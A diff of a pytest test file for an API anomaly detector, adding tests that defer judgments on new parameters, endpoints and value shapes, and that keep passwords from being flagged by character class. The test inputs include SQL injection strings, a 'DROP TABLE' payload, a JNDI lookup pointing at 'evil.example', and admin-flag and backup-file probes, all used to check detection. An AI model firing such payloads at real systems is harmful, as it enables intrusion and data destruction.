@@ -190,12 +190,13 @@ def test_out_of_profile_values_are_caught_with_reasons() -> None:
     det = InjectionPayload()
     benign = make_call("GET", "/search?q=boots+size+4&page=3&sort=asc", user="u1")
     assert det.score_one(benign, _ctx(bl)) == []
-    # Not a textbook payload, but nothing like what this parameter takes.
-    odd = make_call("GET", "/search?q=boots+size+4&page=3&sort=by%3Aprice%3Bdesc", user="u1")
+    # Not a textbook payload, but nothing like what this parameter takes
+    # (request-only data: judged at once, see the deferral tests for 2xx).
+    odd = make_call("GET", "/search?q=boots+size+4&page=3&sort=by%3Aprice%3Bdesc", user="u1", status=None)
     found = det.score_one(odd, _ctx(bl))
     assert found and found[0].evidence["technique"] == "profile"
     assert found[0].evidence["parameter"] == "sort" and found[0].evidence["reasons"]
-    unseen = det.score_one(make_call("GET", "/search?q=boots+size+4&page=3&sort=asc&isAdmin=true", user="u1"), _ctx(bl))
+    unseen = det.score_one(make_call("GET", "/search?q=boots+size+4&page=3&sort=asc&isAdmin=true", user="u1", status=400), _ctx(bl))
     assert unseen and unseen[0].evidence["reasons"] == ["unseen parameter"]
 
 
@@ -209,7 +210,7 @@ def test_unseen_endpoints_on_a_settled_api_and_file_probes() -> None:
     bl = _learned(1500)
     det = InjectionPayload()
     other = EndpointRef(host=EP.host, method="GET", template="/admin/export")
-    found = det.score_one(make_call("GET", "/admin/export"), _ctx(bl, other))
+    found = det.score_one(make_call("GET", "/admin/export", status=404), _ctx(bl, other))
     assert found and found[0].evidence["technique"] == "unseen_endpoint" and found[0].tactic == "reconnaissance"
     probe = EndpointRef(host=EP.host, method="GET", template="/search.bak")
     found = det.score_one(make_call("GET", "/search.bak"), _ctx(bl, probe))
@@ -245,3 +246,177 @@ def test_deterministic_pickles_and_does_not_mutate() -> None:
     b = [f.key for f in det2.score_one(c, _ctx(pickle.loads(pickle.dumps(bl))))]
     assert a == b and a
     assert (list(c.request.query), c.request.path, c.request.body) == before
+
+
+# -- adapting: served endpoints, deferred profile judgments, secrets -----------------
+
+
+def test_served_new_endpoint_is_growth_failed_or_unanswered_one_is_a_guess() -> None:
+    bl = _learned(1500)
+    det = InjectionPayload()
+    new = EndpointRef(host=EP.host, method="GET", template="/rewards")
+    assert det.score_one(make_call("GET", "/rewards", status=200), _ctx(bl, new)) == []
+    export = EndpointRef(host=EP.host, method="GET", template="/users/export")
+    assert det.score_one(make_call("GET", "/users/export?limit=200", status=200), _ctx(bl, export)) == []
+    for status in (404, 403, 500, None):  # a guess, or request-only data (as today)
+        found = det.score_one(make_call("GET", "/rewards", status=status), _ctx(bl, new))
+        assert found and found[0].evidence["technique"] == "unseen_endpoint", status
+    # A debug endpoint the API serves is still worth a look.
+    debug = EndpointRef(host=EP.host, method="GET", template="/internal/debug")
+    found = det.score_one(make_call("GET", "/internal/debug", status=200), _ctx(bl, debug))
+    assert found and found[0].evidence["technique"] == "unseen_endpoint"
+
+
+def _stream(det: InjectionPayload, bl: Baselines, calls: list, ref: EndpointRef = EP) -> list:
+    """Score then learn each call, as the pipeline does; all findings."""
+    out = []
+    for c in calls:
+        ctx = _ctx(bl, ref)
+        out += det.score_one(c, ctx)
+        det.learn_one(c, ctx)
+        bl.learn_one(c, ctx)
+    return out
+
+
+T0 = 1_764_000_000.0
+
+
+def _traffic(start: float, n: int, *, extra: str = "", who: int = 40, every: float = 20.0) -> list:
+    """Benign search calls from ``who`` users, one every ``every`` seconds."""
+    return [
+        make_call("GET", f"/search?q={WORDS[i % 15]}+size+{i % 13}&page={i % 9}&sort={'asc' if i % 2 else 'desc'}{extra}",
+                  user=f"u{i % who}", ts=start + i * every, id=f"e{start + i * every:.0f}")
+        for i in range(n)
+    ]
+
+
+def test_new_parameter_many_actors_adopt_is_the_app_evolving() -> None:
+    bl, det = Baselines(), InjectionPayload()
+    assert _stream(det, bl, _traffic(T0, 300)) == []
+    # A deploy: every client now sends a new parameter; nothing is reported,
+    # neither at once nor when the deferral window has passed.
+    after = _traffic(T0 + 6000, 400, extra="&lang=en")
+    assert _stream(det, bl, after) == []
+    assert det._pending == {}
+
+
+def test_new_parameter_one_actor_sends_is_reported_after_the_window() -> None:
+    bl, det = Baselines(), InjectionPayload()
+    _stream(det, bl, _traffic(T0, 300))
+    odd = make_call("GET", "/search?q=boots+size+4&page=3&sort=asc&isAdmin=true", user="mallory", ts=T0 + 6010, id="odd#1")
+    assert _stream(det, bl, [odd]) == [], "a 2xx deviation waits for other actors"
+    later = _traffic(T0 + 6020, 100, every=60.0)  # 100 minutes of others' traffic, none of them sends it
+    found = _stream(det, bl, later)
+    assert len(found) == 1
+    f = found[0]
+    assert f.evidence["technique"] == "profile" and f.evidence["reasons"] == ["unseen parameter"]
+    assert f.actor == "user:mallory" and f.event_ids == ["odd#1"] and f.first_seen == T0 + 6010
+    assert f.evidence["deferred_seconds"] == det.defer_seconds
+    # Emitted on the first call at least a window later, not before.
+    trigger = next(c for c in later if c.ts >= T0 + 6010 + det.defer_seconds)
+    assert _emitted_on(det, bl, later, odd) == trigger.id
+
+
+def _emitted_on(det: InjectionPayload, bl: Baselines, later: list, odd) -> str:
+    """Replay: the id of the call whose scoring emitted the deferred finding."""
+    bl2, det2 = Baselines(), InjectionPayload(defer_seconds=det.defer_seconds)
+    _stream(det2, bl2, _traffic(T0, 300))
+    _stream(det2, bl2, [odd])
+    for c in later:
+        if _stream(det2, bl2, [c]):
+            return c.id
+    return ""
+
+
+def test_new_value_shape_one_actor_is_reported_many_actors_is_not() -> None:
+    bl, det = Baselines(), InjectionPayload()
+    _stream(det, bl, _traffic(T0, 300))
+    # One actor sends sort values of a new shape: reported after the window.
+    odd = make_call("GET", "/search?q=boots+size+4&page=3&sort=price%3Adesc", user="mallory", ts=T0 + 6010, id="odd#2")
+    _stream(det, bl, [odd])
+    found = _stream(det, bl, _traffic(T0 + 6020, 100, every=60.0))
+    assert [f.event_ids for f in found] == [["odd#2"]] and found[0].evidence["parameter"] == "sort"
+    # Many actors adopt another new shape: nothing.
+    bl, det = Baselines(), InjectionPayload()
+    _stream(det, bl, _traffic(T0, 300))
+    adopted = [
+        make_call("GET", f"/search?q=boots&page=1&sort=price%3A{'asc' if i % 2 else 'desc'}", user=f"u{i % 40}", ts=T0 + 6010 + i * 30, id=f"a{i}")
+        for i in range(200)
+    ]
+    assert _stream(det, bl, adopted) == []
+
+
+def test_attack_payloads_are_never_deferred() -> None:
+    bl, det = Baselines(), InjectionPayload()
+    _stream(det, bl, _traffic(T0, 300))
+    atk = make_call("GET", "/search?q=boots%27%20OR%20%271%27%3D%271&page=3&sort=asc", user="mallory", ts=T0 + 6010, id="atk")
+    found = _stream(det, bl, [atk])
+    assert found and found[0].evidence["technique"] == "sqli"
+
+
+def test_deviations_are_judged_at_once_without_learning_or_a_2xx() -> None:
+    bl = _learned()
+    odd = "/search?q=boots+size+4&page=3&sort=by%3Aprice%3Bdesc"
+    det = InjectionPayload()
+    found = det.score_one(make_call("GET", odd, user="u1"), Context(endpoint=EP, baselines=bl, mode="detect"))
+    assert found and found[0].evidence["technique"] == "profile"
+    assert det.score_one(make_call("GET", odd, user="u1", status=500), _ctx(bl))
+    assert InjectionPayload(defer_seconds=0).score_one(make_call("GET", odd, user="u1"), _ctx(bl))
+
+
+def test_pending_is_bounded_survives_pickle_and_flushes() -> None:
+    bl = _learned()
+    det = InjectionPayload(max_pending=2)
+    for i in range(2):
+        assert det.score_one(make_call("GET", f"/search?q=a&page=1&sort=asc&x{i}=1", user=f"m{i}", id=f"p{i}"), _ctx(bl)) == []
+    # Full: the oldest is judged at once to make room.
+    found = det.score_one(make_call("GET", "/search?q=a&page=1&sort=asc&x2=1", user="m2", id="p2"), _ctx(bl))
+    assert [f.event_ids for f in found] == [["p0"]]
+    det2 = pickle.loads(pickle.dumps(det))
+    assert sorted(f.event_ids[0] for f in det2.flush(bl)) == ["p1", "p2"]
+    assert det2.flush(bl) == []
+    # States saved before deferral existed load and work.
+    old = InjectionPayload()
+    state = {k: v for k, v in old.__dict__.items() if k not in ("_pending", "_next_due", "defer_seconds", "defer_calls", "max_pending")}
+    revived = InjectionPayload.__new__(InjectionPayload)
+    revived.__setstate__(state)
+    assert revived.score_one(make_call("GET", "/search?q=a&page=1&sort=asc&x9=1", user="m9"), _ctx(bl)) == []
+    with pytest.raises(ValueError):
+        InjectionPayload(defer_seconds=-1)
+
+
+LOGIN = EndpointRef(host=EP.host, method="POST", template="/auth/login")
+
+
+def _logins() -> tuple[Baselines, InjectionPayload]:
+    import random
+
+    rng = random.Random(3)
+    chars = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
+    bl, det = Baselines(), InjectionPayload()
+    calls = []
+    for i in range(400):
+        pw = "".join(rng.choice(chars) for _ in range(rng.randint(8, 14))) + ("!" if i % 4 == 0 else "")
+        calls.append(make_call("POST", "/auth/login", req_json={"email": f"user{i % 150}@example.com", "password": pw},
+                               ip=f"198.51.100.{i % 150}", ts=T0 + i * 30, id=f"l{i}"))
+    assert _stream(det, bl, calls, LOGIN) == []
+    return bl, det
+
+
+@pytest.mark.parametrize("pw", ["S%zqv*PCaay5q", "EQW6FR86Eof%BL#", "123123", "aa123456", "Z&i#URWBScx", "NBFQ#*&%rM"])
+def test_passwords_are_not_judged_by_character_class(pw: str) -> None:
+    bl, det = _logins()
+    for status in (200, 401):  # deferred or judged at once, the verdict is the same
+        c = make_call("POST", "/auth/login", req_json={"email": "user7@example.com", "password": pw}, ip="203.0.113.9", ts=T0 + 20000, status=status)
+        assert det.score_one(c, _ctx(bl, LOGIN)) == [] and det.flush(bl) == []
+
+
+@pytest.mark.parametrize(
+    ("pw", "technique"),
+    [("' OR '1'='1", "sqli"), ("x'; DROP TABLE users; --", "sqli"), ("${jndi:ldap://evil.example/a}", "jndi"), ("A" * 400, "profile")],
+)
+def test_attacks_in_a_password_field_still_fire(pw: str, technique: str) -> None:
+    bl, det = _logins()
+    c = make_call("POST", "/auth/login", req_json={"email": "user7@example.com", "password": pw}, ip="203.0.113.9", ts=T0 + 20000, status=401)
+    found = det.score_one(c, _ctx(bl, LOGIN))
+    assert found and found[0].evidence["technique"] == technique
